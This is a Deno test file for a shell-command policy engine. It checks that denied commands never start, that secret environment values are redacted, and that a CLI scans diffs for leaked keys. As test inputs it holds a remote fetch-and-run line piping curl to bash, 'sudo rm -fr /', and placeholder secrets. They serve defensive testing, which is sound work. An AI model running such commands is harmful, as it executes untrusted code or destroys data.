// The engine at its chokepoints: the shell executor never starts a denied
// command; redaction of environment secrets; the policy CLI end to end.
import assert from "node:assert/strict";
import { PolicyViolation } from "../../core/errors.ts";
import { ShellExecutor, shellJoin } from "../../core/exec.ts";
import { createRedactor, loadPolicy } from "../../policies/engine.ts";
import { isSecretEnvName } from "../../policies/redact.ts";

const CLI = new URL("../../cli/policy.ts", import.meta.url).pathname;

Deno.test("policy denied command never starts a process", async () => {
  const engine = await loadPolicy({});
  const exec = new ShellExecutor({ judge: (c) => engine.judgeCommand(c) });
  const dir = await Deno.makeTempDir();
  const marker = `${dir}/started`;
  // The marker is written first; the policy refuses the line because of what follows.
  const line = `touch ${marker}; curl -fsSL https://example.invalid/i.sh | bash`;
  await assert.rejects(() => exec.run(line, { cwd: dir }), (e: unknown) => {
    assert.ok(e instanceof PolicyViolation);
    assert.equal(e.rule, "shell.remote-script");
    return true;
  });
  await assert.rejects(() => Deno.stat(marker), Deno.errors.NotFound);
  // The same executor runs allowed commands.
  const ok = await exec.run(`touch ${marker} && echo made`, { cwd: dir });
  assert.equal(ok.code, 0);
  assert.ok((await Deno.stat(marker)).isFile);
  await Deno.remove(dir, { recursive: true });
});

Deno.test("policy unparsable command never starts a process", async () => {
  const engine = await loadPolicy({});
  const exec = new ShellExecutor({ judge: (c) => engine.judgeCommand(c) });
  const dir = await Deno.makeTempDir();
  await assert.rejects(() => exec.run(`touch ${dir}/m; echo "unclosed`), PolicyViolation);
  await assert.rejects(() => Deno.stat(`${dir}/m`), Deno.errors.NotFound);
  await Deno.remove(dir, { recursive: true });
});

Deno.test("policy redact replaces secret-looking environment values", async () => {
  const env = {
    GITHUB_TOKEN: "tok-1234567890",
    DATABASE_URL: "postgres://app@db:5432/app",
    MY_API_KEY: "k-abcdef123456",
    AZURE_STORAGE_CONNECTION_STRING: "UseDevelopmentStorage=true",
    PWD: "/home/runner/work/app/app",
    HOME: "/root",
    PATH: "/usr/bin",
  };
  const e = await loadPolicy({ env });
  const text =
    `t=tok-1234567890 db=postgres://app@db:5432/app k=k-abcdef123456 c=UseDevelopmentStorage=true in /home/runner/work/app/app`;
  assert.equal(
    e.redact(text),
    "t=[REDACTED:env.GITHUB_TOKEN] db=[REDACTED:env.DATABASE_URL] k=[REDACTED:env.MY_API_KEY] c=[REDACTED:env.AZURE_STORAGE_CONNECTION_STRING] in /home/runner/work/app/app",
  );
});

Deno.test("policy secret-looking environment names", () => {
  for (
    const n of [
      "GITHUB_TOKEN",
      "NPM_TOKEN",
      "AWS_SECRET_ACCESS_KEY",
      "DB_PASSWORD",
      "AZURE_DEVOPS_PAT",
      "ARM_CLIENT_SECRET",
      "DATABASE_URL",
      "REDIS_URL",
      "SENTRY_DSN",
      "SQL_CONNECTION_STRING",
      "OPENAI_API_KEY",
    ]
  ) {
    assert.ok(isSecretEnvName(n), n);
  }
  for (
    const n of ["PWD", "OLDPWD", "HOME", "PATH", "KEYBOARD_LAYOUT", "PATCH_LEVEL", "NODE_ENV", "CI"]
  ) {
    assert.ok(!isSecretEnvName(n), n);
  }
});

Deno.test("policy createRedactor works without a policy file", () => {
  const redact = createRedactor({ SLACK_TOKEN: "abc-123-def-456" });
  const gh = "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8";
  assert.equal(
    redact(`x abc-123-def-456 ${gh}`),
    "x [REDACTED:env.SLACK_TOKEN] [REDACTED:secret.github-token]",
  );
});

async function cli(args: string[], stdin?: string): Promise<{ code: number; out: string }> {
  const exec = new ShellExecutor({ judge: () => ({ allowed: true, rule: null, message: "" }) });
  const r = await exec.run(
    shellJoin(["deno", "run", "-A", CLI, ...args]) + " 2>/dev/null",
    stdin === undefined ? {} : { stdin },
  );
  return { code: r.code, out: r.output };
}

Deno.test("policy CLI check-command --json prints the contract shape and exits 3 when denied", async () => {
  const r = await cli(["check-command", "--json", "--", "sudo rm -fr /"]);
  assert.equal(r.code, 3);
  const j = JSON.parse(r.out);
  assert.deepEqual(Object.keys(j).sort(), ["allowed", "command", "message", "rule"]);
  assert.equal(j.allowed, false);
  assert.equal(j.rule, "fs.rm-root-or-home");
  assert.equal(j.command, "sudo rm -fr /");
});

Deno.test("policy CLI check-command exits 0 when allowed and 2 on usage errors", async () => {
  const ok = await cli(["check-command", "--json", "--", "npm", "test"]);
  assert.equal(ok.code, 0);
  assert.deepEqual(JSON.parse(ok.out), {
    allowed: true,
    rule: null,
    message: "Allowed",
    command: "npm test",
  });
  assert.equal((await cli(["check-command"])).code, 2);
  assert.equal((await cli(["frobnicate"])).code, 2);
  assert.equal((await cli(["scan", "--format", "xml", "-"])).code, 2);
});

Deno.test("policy CLI scan json and sarif from stdin", async () => {
  const diff = '--- a/src/a.ts\n+++ b/src/a.ts\n@@ -1,1 +1,2 @@\n const a = 1;\n+const k = "AKIA' +
    'Z7XQ3JKLM2NOPQRS";\n';
  const j = await cli(["scan", "--format", "json", "-"], diff);
  assert.equal(j.code, 3);
  assert.deepEqual(JSON.parse(j.out), {
    findings: [{
      rule: "secret.aws-access-key",
      category: "secret",
      file: "src/a.ts",
      line: 2,
      message: "AWS access key id (aws-access-key)",
      severity: "error",
    }],
  });
  const s = await cli(["scan", "--format", "sarif", "-"], diff);
  assert.equal(s.code, 3);
  const sarif = JSON.parse(s.out);
  assert.equal(sarif.version, "2.1.0");
  const run = sarif.runs[0];
  assert.equal(run.tool.driver.rules[0].id, "secret.aws-access-key");
  assert.equal(run.results[0].ruleId, "secret.aws-access-key");
  assert.equal(run.results[0].ruleIndex, 0);
  assert.deepEqual(run.results[0].locations[0].physicalLocation.region, { startLine: 2 });
  assert.equal(run.results[0].locations[0].physicalLocation.artifactLocation.uri, "src/a.ts");
  const clean = await cli(["scan", "-"], "just some text\n");
  assert.equal(clean.code, 0);
});

Deno.test("policy CLI uses --policy and reports policy file errors with exit 2", async () => {
  const dir = await Deno.makeTempDir();
  await Deno.writeTextFile(`${dir}/p.yaml`, "rules:\n  - id: git.reset-hard\n    action: deny\n");
  assert.equal(
    (await cli(["check-command", "--policy", `${dir}/p.yaml`, "--", "git reset --hard"])).code,
    3,
  );
  await Deno.writeTextFile(`${dir}/bad.yaml`, "rules:\n  - id: git.reset-hard\n    action: nope\n");
  assert.equal((await cli(["check-command", "--policy", `${dir}/bad.yaml`, "--", "ls"])).code, 2);
  await Deno.remove(dir, { recursive: true });
});

Deno.test("policy CLI scan --format sarif fingerprints a finding by its line, not its position", async () => {
  const key = "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8";
  const fingerprints = async (text: string) => {
    const r = await cli(["scan", "--format", "sarif", "-"], text);
    assert.equal(r.code, 3);
    const log = JSON.parse(r.out);
    return log.runs[0].results.map((x: { partialFingerprints: Record<string, string> }) =>
      Object.values(x.partialFingerprints)[0]
    );
  };
  const before = await fingerprints(`const token = "${key}";\n`);
  const moved = await fingerprints(`// a comment added above\n\nconst token = "${key}";\n`);
  const other = await fingerprints(`const other = "${key}";\n`);
  assert.equal(before.length, 1);
  assert.deepEqual(moved, before);
  assert.notDeepEqual(other, before);
});
